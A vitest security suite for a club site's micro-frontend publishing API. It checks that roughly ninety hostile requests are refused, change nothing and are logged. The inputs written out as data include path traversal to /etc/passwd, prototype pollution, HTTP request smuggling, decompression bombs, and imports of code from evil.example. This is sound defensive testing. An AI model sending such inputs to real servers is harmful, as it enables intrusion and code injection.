import { randomBytes } from 'node:crypto';
import { type AddressInfo, connect } from 'node:net';
import { Readable, Writable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import { API_PREFIX } from '@kickabout/contract';
import { digestOf } from '@kickabout/releases';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestClub, type TestClub, type TestPlayer } from '../../testing/test-club.ts';
import {
  createTestSite,
  describeRelease,
  makeRelease,
  publish,
  type TestRelease,
  type TestSite,
} from '../../testing/test-releases.ts';

let site: TestSite;
let club: TestClub;
let admin: TestPlayer;
let player: TestPlayer;
/** Keys of mf-kit, but one of mf-other. */
const keys = { good: '', revoked: '', expired: '', other: '', greedy: '', hoarding: '' };
let logged = '';

beforeAll(async () => {
  site = createTestSite();
  const logTo = new Writable({
    write(chunk, _encoding, done) {
      logged += chunk;
      done();
    },
  });
  club = await createTestClub({ env: { SITE_FOLDER: site.folder, LOG_LEVEL: 'info' }, logTo });
  admin = await club.signUp('founder');
  player = await club.signUp('player');
  const create = async (days: number, name = 'mf-kit') =>
    (await club.call('createPublishKey', admin, { params: { name }, body: { holder: 'Sam', days } })).body;
  keys.expired = (await create(1)).key;
  club.clock.time += 2 * 24 * 3600_000;
  const revoked = await create(30);
  keys.revoked = revoked.key;
  await club.call('revokePublishKey', admin, { params: { name: 'mf-kit', keyId: revoked.key_id } });
  keys.good = (await create(30)).key;
  keys.greedy = (await create(30)).key;
  keys.hoarding = (await create(30)).key;
  keys.other = (await create(30, 'mf-other')).key;
  for (const name of ['mf-kit', 'mf-other']) {
    await publish(club, admin, makeRelease({ name }));
    const claims = { paths: [`/${name}`], navigation: [], slots: [] };
    await club.call('decideClaims', admin, {
      params: { name, release: 'r1' },
      body: { decision: 'approve', claims },
    });
  }
  const waiting = makeRelease({
    release: 'waiting',
    slots: [{ slot: 'home.admin', access: 'admin', screen: 'kit-screen' }],
  });
  await publish(club, admin, waiting);
});
afterAll(async () => {
  await club.close();
  site.remove();
});

type Answer = { status: number; code: string; detail: string };

async function send(
  method: string,
  path: string,
  options: { as?: string; body?: object | string | Readable; headers?: object } = {},
): Promise<Answer> {
  const { as = keys.good, body, headers } = options;
  const response = await club.app.inject({
    method: method as 'PUT',
    url: `${API_PREFIX}${path}`,
    ...(body !== undefined && { payload: body }),
    headers: { ...(as !== '' && { authorization: `Bearer ${as}` }), ...headers },
  });
  const { code = '', detail = '' } = response.json<{ code?: string; detail?: string }>();
  return { status: response.statusCode, code, detail };
}

/** Sends a release, or a changed description of it, as a whole. */
const sendRelease = (
  release: TestRelease,
  {
    as,
    change,
    path,
    ...more
  }: {
    as?: string;
    change?: (body: ReturnType<typeof describeRelease>) => void;
    path?: string;
    share?: number;
    stage?: string;
  } = {},
) => {
  const body = describeRelease(release);
  change?.(body);
  const { name, release: named } = release.manifest;
  const url = path ?? `/remotes/${name}/releases/${named}`;
  return send('PUT', url, { ...(as !== undefined && { as }), body: { ...body, stage: 'everyone', ...more } });
};

/** A release of mf-kit like the live one, which could go live as it is. */
const next = (more: Parameters<typeof makeRelease>[0] = {}) => makeRelease({ release: 'r2', ...more });
const withPath = (path: string) =>
  next({ routes: [{ path, access: 'everyone', title: 'Kit', screen: 'kit-screen' }] });
const withFile = (path: string, content: string | Buffer = '1') => next({ contents: { [path]: content } });
const withFilePath = (path: string) =>
  sendRelease(next(), { change: ({ files }) => void files.push({ path, digest: 'a'.repeat(96), size: 1 }) });

/** Uploads pictures and offers a preview of a release that has them, with a key of its own. Returns the last answer. */
async function preview(release: string, pictures: readonly Buffer[]): Promise<Answer> {
  const named = makeRelease({
    release,
    contents: Object.fromEntries(pictures.map((content, index) => [`${index}.png`, content])),
  });
  for (const content of Object.values(named.contents)) {
    const uploaded = await upload(Buffer.from(content), { as: keys.hoarding });
    if (uploaded.status !== 200) return uploaded;
  }
  return sendRelease(named, { as: keys.hoarding, stage: 'preview' });
}

const upload = (
  body: Buffer | Readable | string,
  options: { digest?: string; headers?: object; as?: string } = {},
) =>
  send(
    'PUT',
    `/remotes/mf-kit/files/${options.digest ?? (Buffer.isBuffer(body) ? digestOf(body) : 'a'.repeat(96))}`,
    {
      ...(options.as !== undefined && { as: options.as }),
      body,
      headers: { 'content-type': 'application/octet-stream', ...options.headers },
    },
  );

/** A gigabyte, a megabyte at a time. */
function* zeros() {
  for (let count = 0; count < 1000; count += 1) yield Buffer.alloc(1_000_000);
}

/** Everything that a publisher could change. */
async function everything(): Promise<unknown> {
  const tables = [
    'remotes',
    'remote_grants',
    'remote_releases',
    'release_files',
    'live_history',
    'transfers',
  ] as const;
  const rows = tables.map(
    async (table) => [table, await club.db.selectFrom(table).selectAll().execute()] as const,
  );
  const stored = await club.db
    .selectFrom('stored_files')
    .select(['digest', 'is_stored', 'uploaded_at'])
    .orderBy('digest')
    .execute();
  const keysNow = await club.db
    .selectFrom('publish_keys')
    .select(['key_id', 'revoked_at', 'expires_at'])
    .orderBy('key_id')
    .execute();
  return {
    registry: (await club.app.inject('/remotes.json')).body,
    keysNow,
    stored,
    ...Object.fromEntries(await Promise.all(rows)),
  };
}

type Attack = {
  what: string;
  try: () => Promise<Answer>;
  status: number;
  code: string;
  says: RegExp;
  /** Whose files are uploaded first. */
  uploaded?: TestRelease;
};

const refused = (what: string, release: () => TestRelease, says: RegExp): Attack => {
  const made = release();
  return { what, try: () => sendRelease(made), status: 422, code: 'release_refused', says };
};
/** A release that only shows what it is once its files are there. */
const refusedInside = (what: string, made: TestRelease, says: RegExp): Attack => ({
  ...refused(what, () => made, says),
  uploaded: made,
});
const invalid = (what: string, attempt: () => Promise<Answer>, says: RegExp): Attack => ({
  what,
  try: attempt,
  status: 400,
  code: 'validation_failed',
  says,
});

const ATTACKS: Attack[] = [
  // who
  {
    what: 'no key',
    try: () => sendRelease(next(), { as: '' }),
    status: 401,
    code: 'not_signed_in',
    says: /log in/,
  },
  {
    what: 'a made-up key',
    try: () => sendRelease(next(), { as: `kickabout_${'a'.repeat(43)}` }),
    status: 401,
    code: 'publish_key_invalid',
    says: /isn’t known here/,
  },
  {
    what: 'an expired key',
    try: () => sendRelease(next(), { as: keys.expired }),
    status: 401,
    code: 'publish_key_invalid',
    says: /expired on 2026-11-20/,
  },
  {
    what: 'a revoked key',
    try: () => sendRelease(next(), { as: keys.revoked }),
    status: 401,
    code: 'publish_key_invalid',
    says: /was revoked/,
  },
  {
    what: 'a revoked key for a file',
    try: () => upload(Buffer.from('x'), { as: keys.revoked }),
    status: 401,
    code: 'publish_key_invalid',
    says: /was revoked/,
  },
  {
    what: 'the key of another remote',
    try: () => sendRelease(next(), { as: keys.other }),
    status: 403,
    code: 'publish_key_elsewhere',
    says: /is for mf-other, not for mf-kit/,
  },
  {
    what: 'the key of another remote to roll back',
    try: () => send('POST', '/remotes/mf-kit/rollback', { as: keys.other, body: {} }),
    status: 403,
    code: 'publish_key_elsewhere',
    says: /is for mf-other/,
  },
  {
    what: 'the key of another remote to read the history',
    try: () => send('GET', '/remotes/mf-kit/releases', { as: keys.other }),
    status: 403,
    code: 'publish_key_elsewhere',
    says: /is for mf-other/,
  },
  {
    what: 'a key that makes keys',
    try: () => send('POST', '/remotes/mf-kit/keys', { body: { holder: 'Eve', days: 400 } }),
    status: 401,
    code: 'not_signed_in',
    says: /log in/,
  },
  {
    what: 'a key that approves its own claims',
    try: () =>
      send('PUT', '/remotes/mf-kit/releases/waiting/claims', {
        body: { decision: 'approve', claims: { paths: [], navigation: [], slots: ['home.admin'] } },
      }),
    status: 401,
    code: 'not_signed_in',
    says: /log in/,
  },
  {
    what: 'a key that reads who is an admin',
    try: () => send('GET', '/people'),
    status: 401,
    code: 'not_signed_in',
    says: /log in/,
  },
  {
    what: 'a player',
    try: () => sendRelease(next(), { as: player.token }),
    status: 403,
    code: 'admin_only',
    says: /Only an admin/,
  },

  {
    what: 'two keys in one header',
    try: () => sendRelease(next(), { as: `${keys.other}, Bearer ${keys.good}` }),
    status: 401,
    code: 'not_signed_in',
    says: /log in/,
  },
  {
    what: 'a key in the address',
    try: () => sendRelease(next(), { as: '', path: `/remotes/mf-kit/releases/r2?access_token=${keys.good}` }),
    status: 401,
    code: 'not_signed_in',
    says: /log in/,
  },
  {
    what: 'another method in a header',
    try: () =>
      send('POST', '/remotes/mf-kit/live', { headers: { 'x-http-method-override': 'PUT' }, body: {} }),
    status: 405,
    code: 'method_not_allowed',
    says: /./,
  },
  {
    what: 'a revoked key that makes another link to what it published',
    try: () => send('PUT', '/remotes/mf-kit/releases/r1/preview', { as: keys.revoked }),
    status: 401,
    code: 'publish_key_invalid',
    says: /was revoked/,
  },
  {
    what: 'the key of another remote that withdraws',
    try: () => send('POST', '/remotes/mf-kit/withdrawal', { as: keys.other, body: { release: 'r1' } }),
    status: 403,
    code: 'publish_key_elsewhere',
    says: /is for mf-other/,
  },
  {
    what: 'a key that grants itself a page',
    try: () =>
      send('PUT', '/remotes/mf-kit/grants', { body: { kind: 'path', value: '/matches', is_granted: true } }),
    status: 401,
    code: 'not_signed_in',
    says: /log in/,
  },

  // names and addresses
  invalid(
    'a name with a letter that looks like another',
    () => sendRelease(next(), { as: admin.token, path: '/remotes/mf-k%C4%B1t/releases/r2' }),
    /^name must be a name like mf-something/,
  ),
  {
    what: 'a key for a name with slashes',
    try: () => sendRelease(next(), { path: '/remotes/mf-kit%2F..%2Fmf-other/releases/r2' }),
    status: 403,
    code: 'publish_key_elsewhere',
    says: /is for mf-kit/,
  },
  invalid(
    'an admin with a name with slashes',
    () => sendRelease(next(), { as: admin.token, path: '/remotes/mf-kit%2F..%2Fmf-other/releases/r2' }),
    /^name must be a name like mf-something/,
  ),
  invalid(
    'the shell',
    () => sendRelease(next(), { as: admin.token, path: '/remotes/shell/releases/r2' }),
    /^name must be a name like mf-something/,
  ),
  invalid(
    'a release called ..',
    () => sendRelease(next(), { path: '/remotes/mf-kit/releases/%2e%2e%2fx' }),
    /^release must be a release’s name/,
  ),
  {
    what: 'another remote in the manifest',
    try: () =>
      sendRelease(next(), { change: ({ manifest }) => void Object.assign(manifest, { name: 'mf-other' }) }),
    status: 422,
    code: 'release_refused',
    says: /manifest\.name must be mf-kit/,
  },
  {
    what: 'another release in the manifest',
    try: () =>
      sendRelease(next(), { change: ({ manifest }) => void Object.assign(manifest, { release: 'r9' }) }),
    status: 422,
    code: 'release_refused',
    says: /manifest\.release must be r2/,
  },
  refused(
    'an entry on another site',
    () => next({ entry: 'https://evil.example/remote-entry.js' }),
    /manifest\.entry must be \/remotes\/mf-kit\/r2\/remote-entry\.js/,
  ),
  refused(
    'the entry of another remote',
    () => next({ entry: '/remotes/mf-other/r1/remote-entry.js' }),
    /manifest\.entry must be/,
  ),

  // files
  invalid(
    'a path that climbs',
    () => withFilePath('../../index.html'),
    /^files\.3\.path must be a path inside the release/,
  ),
  invalid('a path that climbs in the middle', () => withFilePath('a/../../b.js'), /^files\.3\.path must be/),
  invalid('an absolute path', () => withFilePath('/etc/passwd'), /^files\.3\.path must be/),
  invalid('a path with backslashes', () => withFilePath('..\\index.js'), /^files\.3\.path must be/),
  invalid('a path with a percent sign', () => withFilePath('%2e%2e/index.js'), /^files\.3\.path must be/),
  invalid('a path with NUL', () => withFilePath('a.js\0.png'), /^files\.3\.path must not contain/),
  invalid(
    'a sign that is k in small letters',
    () => withFilePath('\u212Ait-screen.css'),
    /^files\.3\.path must be/,
  ),
  refused(
    'a style whose kind is in capitals',
    () => withFile('a.CSS', 'header{display:none}'),
    /not be a\.CSS/,
  ),
  invalid('a hidden file', () => withFilePath('.htaccess'), /^files\.3\.path must be/),
  invalid(
    'a symbolic link',
    () =>
      sendRelease(next(), {
        change: ({ files }) => void files.push({ path: 'a.js', link: '/etc/passwd' } as never),
      }),
    /files\.3\.digest must be text/,
  ),
  refused(
    'the same path twice, in capitals',
    () => withFile('Remote-Entry.js'),
    /files\.3\.path names Remote-Entry\.js twice/,
  ),
  refused(
    'a page of its own',
    () => withFile('login.html', '<form>'),
    /files\.3\.path must end in one of .*, not be login\.html/,
  ),
  refused('an archive', () => withFile('all.zip'), /files\.3\.path must end in one of/),
  refused(
    'a file compressed by its sender',
    () => withFile('remote-entry.js.br'),
    /files\.3\.path must end in one of/,
  ),
  refused(
    'its own remote.json',
    () => withFile('remote.json', '{}'),
    /files\.3\.path must not be remote\.json: the server writes it/,
  ),
  invalid(
    'a file of a gigabyte',
    () =>
      sendRelease(next(), {
        change: ({ files }) => void files.push({ path: 'a.js', digest: 'a'.repeat(96), size: 1e9 }),
      }),
    /^files\.3\.size must be at most 2097152/,
  ),
  invalid(
    '501 files',
    () =>
      sendRelease(next(), {
        change: ({ files }) =>
          void files.push(
            ...Array.from({ length: 498 }, (_, index) => ({
              path: `${index}.js`,
              digest: 'a'.repeat(96),
              size: 1,
            })),
          ),
      }),
    /^files must have at most 500 entries/,
  ),
  {
    what: 'a description of a megabyte',
    try: () => send('PUT', '/remotes/mf-kit/releases/r2', { body: { text: 'x'.repeat(1e6) } }),
    status: 413,
    code: 'payload_too_large',
    says: /too large/,
  },
  refused(
    'three megabytes of scripts that compress well',
    () => next({ contents: { 'a.js': ' '.repeat(1_500_000), 'b.js': ' '.repeat(1_500_000) } }),
    /files must have at most 2000000 bytes of scripts and styles/,
  ),

  {
    what: 'a prototype in the description',
    try: () => {
      const text = JSON.stringify({ ...describeRelease(next()), stage: 'everyone' });
      return send('PUT', '/remotes/mf-kit/releases/r2', {
        body: text.replace('{', '{"__proto__":{"isAdmin":true},'),
        headers: { 'content-type': 'application/json' },
      });
    },
    status: 400,
    code: 'malformed_request',
    says: /couldn’t be read/,
  },
  {
    what: 'a compressed description of a hundred megabytes',
    try: () =>
      send('PUT', '/remotes/mf-kit/releases/r2', {
        body: gzipSync(Buffer.alloc(100_000_000, ' ')) as never,
        headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      }),
    status: 415,
    code: 'unsupported_media_type',
    says: /must not be compressed/,
  },

  // uploads
  {
    what: 'a gigabyte of zeros, announced',
    try: () => upload(Buffer.alloc(10), { headers: { 'content-length': '1000000000' } }),
    status: 413,
    code: 'payload_too_large',
    says: /too large/,
  },
  {
    what: 'a gigabyte of zeros, not announced',
    try: () => upload(Readable.from(zeros())),
    status: 413,
    code: 'payload_too_large',
    says: /too large/,
  },
  {
    what: 'a compressed body',
    try: () => upload(Buffer.alloc(10), { headers: { 'content-encoding': 'gzip' } }),
    status: 415,
    code: 'unsupported_media_type',
    says: /must not be compressed/,
  },
  {
    what: 'a body that is JSON',
    try: () => upload('{}', { headers: { 'content-type': 'application/json' } }),
    status: 415,
    code: 'unsupported_media_type',
    says: /must be bytes/,
  },
  {
    what: 'bytes for another call',
    try: () =>
      send('PUT', '/remotes/mf-kit/releases/r2', {
        body: Buffer.alloc(9),
        headers: { 'content-type': 'application/octet-stream' },
      }),
    status: 415,
    code: 'unsupported_media_type',
    says: /must be JSON/,
  },
  invalid(
    'a digest that isn’t that of the bytes',
    () => upload(Buffer.from('other'), { digest: digestOf(Buffer.from('one')) }),
    /^digest isn’t that of the bytes/,
  ),
  invalid(
    'a digest that leads elsewhere',
    () => upload(Buffer.from('x'), { digest: '..%2F..%2Findex.html' }),
    /^digest must be a SHA-384 digest/,
  ),
  {
    what: 'more uploads than a release needs',
    try: async () => {
      const uploads = [];
      for (let count = 0; count < 13; count += 1)
        uploads.push(await upload(randomBytes(2_000_000), { as: keys.greedy }));
      return uploads.at(-1) as Answer;
    },
    status: 413,
    code: 'too_many_uploads',
    says: /deleted after an hour, previews after a week/,
  },

  {
    what: 'previews that fill the disk',
    try: async () => {
      const previews = [];
      for (let count = 0; count < 4; count += 1)
        previews.push(
          await preview(
            `greedy-${count}`,
            Array.from({ length: 4 }, () => randomBytes(2_000_000)),
          ),
        );
      return previews.at(-1) as Answer;
    },
    status: 413,
    code: 'too_many_uploads',
    says: /previews after a week/,
  },

  // digests
  refused(
    'an entry that isn’t the pinned one',
    () => next({ integrity: `sha384-${'A'.repeat(64)}` }),
    /manifest\.integrity isn’t the digest of remote-entry\.js/,
  ),
  refused(
    'a script that isn’t the pinned one',
    () =>
      next({ files: { 'kit-screen': [{ file: 'kit-screen.css', integrity: `sha384-${'A'.repeat(64)}` }] } }),
    /manifest\.files\.kit-screen\.0 isn’t the digest of kit-screen\.css/,
  ),
  refused(
    'a script that isn’t sent',
    () => next({ files: { 'kit-screen': [{ file: 'gone.js', integrity: `sha384-${'A'.repeat(64)}` }] } }),
    /needs gone\.js, which is none of the files/,
  ),
  {
    what: 'no entry',
    try: () => sendRelease(next(), { change: ({ files }) => void files.shift() }),
    status: 422,
    code: 'release_refused',
    says: /needs remote-entry\.js, which is none of the files/,
  },
  {
    what: 'another size than its bytes have',
    uploaded: next(),
    try: () =>
      sendRelease(next(), { change: ({ files }) => void Object.assign(files[0] ?? {}, { size: 1 }) }),
    status: 422,
    code: 'release_refused',
    says: /files\.0\.size must be \d+/,
  },
  {
    what: 'an entry swapped after the check',
    try: () => sendRelease(makeRelease({ contents: { 'remote-entry.js': 'swapped' } })),
    status: 409,
    code: 'release_changed',
    says: /A release can’t be changed/,
  },

  // claims
  refused(
    'the login page',
    () => withPath('/login'),
    /manifest\.routes\.0\.path is \/login, which belongs to the shell/,
  ),
  refused('the login page in capitals', () => withPath('/LogIn/'), /which belongs to the shell/),
  invalid(
    'a path that climbs to the login page',
    () => sendRelease(withPath('/mf-kit/../login')),
    /path must be a path such as/,
  ),
  invalid(
    'a path of another remote with two slashes',
    () => sendRelease(withPath('/mf-other//:id')),
    /path must be a path such as/,
  ),
  refused(
    'a screen with a name that every object has',
    () => next({ routes: [{ path: '/mf-kit', access: 'everyone', title: 'Kit', screen: 'constructor' }] }),
    /manifest\.routes\.0\.screen is constructor, which manifest\.files doesn’t have/,
  ),
  {
    what: 'a link to a release that waits',
    try: () => send('PUT', '/remotes/mf-kit/releases/waiting/preview'),
    status: 409,
    code: 'claims_waiting',
    says: /until an admin approves/,
  },
  refused('home', () => withPath('/'), /which belongs to the shell/),
  refused('an address of the API', () => withPath('/api/v1/players'), /which the server needs/),
  refused('an address of files', () => withPath('/remotes.json'), /which the server needs/),
  refusedInside(
    'a path of another remote',
    withPath('/MF-Other'),
    /manifest\.routes\.0\.path is \/MF-Other, which belongs to mf-other/,
  ),
  refused(
    'the same path twice',
    () =>
      next({
        routes: ['/mf-kit', '/MF-kit/'].map((path) => ({
          path,
          access: 'everyone',
          title: 'Kit',
          screen: 'kit-screen',
        })),
      }),
    /manifest\.routes\.1\.path names \/MF-kit\/ twice/,
  ),
  refused(
    'a navigation entry to someone else’s page',
    () => next({ navigation: [{ label: 'Matches', to: '/matches', order: 1, access: 'everyone' }] }),
    /manifest\.navigation\.0\.to leads to \/matches, which is none of its routes/,
  ),
  {
    what: 'a release that waits, made live with the key',
    try: () => send('PUT', '/remotes/mf-kit/live', { body: { release: 'waiting', stage: 'everyone' } }),
    status: 409,
    code: 'claims_waiting',
    says: /until an admin approves/,
  },
  {
    what: 'a rollback to a release that waits',
    try: () => send('POST', '/remotes/mf-kit/rollback', { body: { release: 'waiting' } }),
    status: 409,
    code: 'claims_waiting',
    says: /until an admin approves/,
  },
  invalid(
    'a share of everyone',
    () => sendRelease(next(), { stage: 'share', share: 100 }),
    /^share must be from 1 to 99/,
  ),
  invalid(
    'a share without the stage',
    () => sendRelease(next(), { share: 10 }),
    /^share must be there with the stage/,
  ),

  // what it needs, and what it contains
  refused('a newer contract', () => next({ contract: '99.0.0' }), /built for contract 99\.0\.0/),
  refused(
    'a shared module that the shell lacks',
    () => next({ needs: { leftpad: '^1.0.0' } }),
    /leftpad \^1\.0\.0, which it doesn’t have/,
  ),
  refused(
    'a shared module with a name that every object has',
    () => next({ needs: { constructor: '^1.0.0' } }),
    /constructor \^1\.0\.0, which it doesn’t have/,
  ),
  refusedInside(
    'an entry that imports the live file of another remote',
    next({ contents: { 'a.js': 'import("/remotes/mf-other/r1/kit-screen.r1.js")' } }),
    /a\.js loads \/remotes\/mf-other/,
  ),
  refusedInside(
    'a chunk that fetches foreign code',
    next({ contents: { 'a.js': 'const load=()=>import("https://evil.example/a.js")' } }),
    /files load code from elsewhere: a\.js loads https:\/\/evil\.example\/a\.js/,
  ),
  refusedInside(
    'a static import without a protocol',
    next({ contents: { 'a.js': 'import{a}from"//evil.example/a.js"' } }),
    /a\.js loads \/\/evil\.example/,
  ),
  refusedInside(
    'code in an address',
    next({ contents: { 'a.js': 'new Worker("data:text/javascript,alert(1)")' } }),
    /a\.js loads data:text\/javascript/,
  ),
  refusedInside(
    'styles that hide the header',
    next({ contents: { 'a.css': 'body:has(.mf-kit-a) header{display:none}' } }),
    /its styles reach outside it: body:has\(\.mf-kit-a\) header/,
  ),
  refusedInside(
    'styles for every page',
    next({ contents: { 'a.css': ':root{--color-ink:red}' } }),
    /its styles reach outside it: :root/,
  ),
  refusedInside(
    'styles that load others',
    next({ contents: { 'a.css': '@import "https://evil.example/a.css";' } }),
    /its styles reach outside it: @import/,
  ),
  refusedInside(
    'styles in a layer of the shell',
    next({ contents: { 'a.css': '@layer components{.mf-kit-a,header{display:none}}' } }),
    /its styles reach outside it: header/,
  ),
  refusedInside(
    'a nested rule that leaves its own',
    next({ contents: { 'a.css': '.mf-kit-a{body:has(&) header{display:none}}' } }),
    /its styles reach outside it: body:has\(&\) header/,
  ),
  refusedInside(
    'an animation, a property and a font with the names of the shell’s',
    next({
      contents: {
        'a.css':
          '@keyframes pulse{to{opacity:0}}@property --color-ink{syntax:"*";inherits:true}@font-face{font-family:"Inter";src:url(a.woff2)}',
      },
    }),
    /@keyframes pulse ; @property --color-ink ; @font-face "Inter"/,
  ),
  refusedInside(
    'too many bytes',
    next({ contents: { 'a.js': `/*${randomBytes(120_000).toString('base64')}*/` } }),
    /the limit is 60000/,
  ),
];

describe('an attack is refused with a sentence, changes nothing and is noted:', () => {
  it.each(ATTACKS)('$what', async ({ try: attempt, status, code, says, uploaded }) => {
    for (const content of Object.values(uploaded?.contents ?? {})) await upload(Buffer.from(content));
    const isGreedy = code === 'too_many_uploads';
    const before = isGreedy ? null : await everything();
    logged = '';
    const answer = await attempt();
    expect(answer).toEqual({ status, code, detail: expect.stringMatching(says) });
    if (!isGreedy) expect(await everything()).toEqual(before);
    expect(logged).toContain(`"res":{"status":${status}}`);
  });

  it('there are enough of them', () => expect(ATTACKS.length).toBeGreaterThan(90));
});

it('requests that a proxy could read as others are refused, and change nothing', async () => {
  await club.app.listen({ port: 0, host: '127.0.0.1' });
  const { port } = club.app.server.address() as AddressInfo;
  const before = await everything();
  const statusOf = async (headers: readonly string[], body: string) => {
    const socket = connect(port, '127.0.0.1');
    const head = [`POST ${API_PREFIX}/remotes/mf-kit/rollback HTTP/1.1`, 'host: club', 'connection: close'];
    socket.write(`${[...head, 'content-type: application/json', ...headers].join('\r\n')}\r\n\r\n${body}`);
    return Number((await text(socket)).split(' ')[1]);
  };
  const as = (key: string) => `authorization: Bearer ${key}`;
  const hidden = `0\r\n\r\nPOST ${API_PREFIX}/remotes/mf-kit/rollback HTTP/1.1\r\n${as(keys.good)}\r\n\r\n`;
  expect(await statusOf([as(keys.other), as(keys.good), 'content-length: 2'], '{}')).toBe(403);
  expect(await statusOf([as(keys.good), 'transfer-encoding: chunked', 'content-length: 5'], hidden)).toBe(
    400,
  );
  expect(await statusOf([as(keys.good), 'content-length: 2', 'content-length: 5'], '{}xxx')).toBe(400);
  expect(await statusOf([`${as(keys.good)}\n x: 1`, 'content-length: 2'], '{}')).toBe(400);
  expect(await everything()).toEqual(before);
});

const refusals = async () =>
  (await club.call('listAuditEntries', admin, { query: { limit: '200' } })).body.filter(({ action }) =>
    /refused$/.test(action),
  );

it('admins see what was refused to whom, once however often it’s tried', async () => {
  club.clock.time += 3_600_001;
  await sendRelease(withPath('/login'));
  await sendRelease(next(), { as: keys.other });
  await send('POST', '/remotes/mf-kit/keys', { body: { holder: 'Eve', days: 400 } });
  const before = await refusals();
  expect(before.slice(0, 3)).toMatchObject([
    {
      action: 'publish_key_refused',
      remote: 'mf-kit',
      reason: 'A publish key can’t be used for createPublishKey.',
    },
    {
      action: 'publish_key_refused',
      remote: 'mf-other',
      key_holder: 'Sam',
      reason: 'This publish key is for mf-other, not for mf-kit.',
    },
    {
      action: 'release_refused',
      remote: 'mf-kit',
      release: 'r2',
      key_holder: 'Sam',
      actor: null,
      reason: expect.stringContaining('/login'),
    },
  ]);
  expect(before.find(({ reason }) => reason?.includes('revoked'))).toMatchObject({ remote: 'mf-kit' });
  await sendRelease(withPath('/login'));
  expect(await refusals()).toHaveLength(before.length);
  expect(logged).not.toContain(keys.good.slice(10));
});

it('an attacker can’t fill the audit list, with a key or without', async () => {
  club.clock.time += 2 * 3_600_000;
  const before = (await refusals()).length;
  for (let attempt = 0; attempt < 30; attempt += 1) {
    await sendRelease(next(), { as: `kickabout_${randomBytes(32).toString('base64url')}` });
    await sendRelease(makeRelease({ name: `mf-x${attempt}` }), { as: keys.other });
  }
  const listed = await refusals();
  expect(listed).toHaveLength(before + 2 + 20);
  const reasons = listed.map(({ reason }) => reason);
  expect(reasons).toContain('A key that isn’t known here was sent.');
  expect(reasons).toContain('A key that isn’t known here was sent 10 times within an hour.');
  expect(reasons).toContain(
    'This publish key is for mf-other, not for mf-x19. More within this hour aren’t listed.',
  );
  club.clock.time += 3_600_001;
  await sendRelease(next(), { as: `kickabout_${'a'.repeat(43)}` });
  expect(await refusals()).toHaveLength(listed.length + 1);
});

it('the same request again, as it was recorded, changes nothing, and nothing at all once the key is revoked', async () => {
  const { key, key_id } = (
    await club.call('createPublishKey', admin, {
      params: { name: 'mf-kit' },
      body: { holder: 'Kim', days: 1 },
    })
  ).body;
  await publish(club, { token: key }, next());
  const before = await everything();
  expect((await sendRelease(next(), { as: key })).status).toBe(200);
  expect(await everything()).toEqual(before);
  await club.call('revokePublishKey', admin, { params: { name: 'mf-kit', keyId: key_id } });
  expect(await sendRelease(next(), { as: key })).toMatchObject({ status: 401, code: 'publish_key_invalid' });
});

it('of two different releases of one name that are sent at the same time, one goes live', async () => {
  const sent = ['a', 'b'].map((letter) =>
    publish(
      club,
      { token: keys.good },
      makeRelease({ release: 'twin', contents: { 'a.js': `"${letter}"` } }),
    ),
  );
  const states = (await Promise.all(sent)).map(({ body }) => body.code ?? body.state);
  expect(states.toSorted()).toEqual(['live', 'release_changed']);
});

it('a picture with a script in it has no rights on the site', async () => {
  const picture = '<svg xmlns="http://www.w3.org/2000/svg"><script href="/remotes/mf-kit/drawn/a.js"/></svg>';
  await publish(
    club,
    { token: keys.good },
    makeRelease({ release: 'drawn', contents: { 'a.svg': picture } }),
  );
  const { headers } = await club.app.inject('/remotes/mf-kit/drawn/a.svg');
  expect(headers['content-security-policy']).toMatch(/default-src 'none'.*; sandbox$/);
});
